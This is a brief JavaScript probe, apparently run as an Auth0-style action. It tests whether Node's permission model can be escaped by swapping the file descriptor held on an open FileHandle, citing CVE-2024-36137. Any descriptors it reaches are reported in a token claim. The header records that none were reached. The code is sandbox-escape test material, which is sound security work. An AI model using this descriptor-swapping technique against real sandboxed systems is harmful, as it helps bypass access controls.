// outcome: completed; claim reached=[]; beside served
// The Node permission model's class of holes: an open `fs.promises` handle keeps its descriptor in a property (compare CVE-2024-36137).
const fs = require('node:fs')
const symbol = (handle, name) => Object.getOwnPropertySymbols(handle).find(({ description }) => description === name)
const ways = {
  set: (handle, kept, fd) => {
    handle[kept] = fd
  },
  define: (handle, kept, fd) => Object.defineProperty(handle, kept, { value: fd }),
  'define fd': (handle, _kept, fd) => Object.defineProperty(handle, 'fd', { value: fd }),
  'define a getter': (handle, _kept, fd) => Object.defineProperty(handle, 'fd', { get: () => fd }),
}
exports.onExecuteCredentialsExchange = async (_event, api) => {
  const reached = new Set()
  for (const { open } of [fs.promises, await import('node:fs/promises'), require('node:fs/promises')]) {
    for (const [name, change] of Object.entries(ways)) {
      for (let fd = 3; fd < 24; fd++) {
        const handle = await open(__filename)
        try {
          change(handle, symbol(handle, 'kFd'), fd)
          if (!(await handle.stat()).isFile()) reached.add(name)
        } catch {
          // Refused.
        }
        await handle.close().catch(() => {})
      }
    }
  }
  api.accessToken.setCustomClaim('reached', [...reached])
}
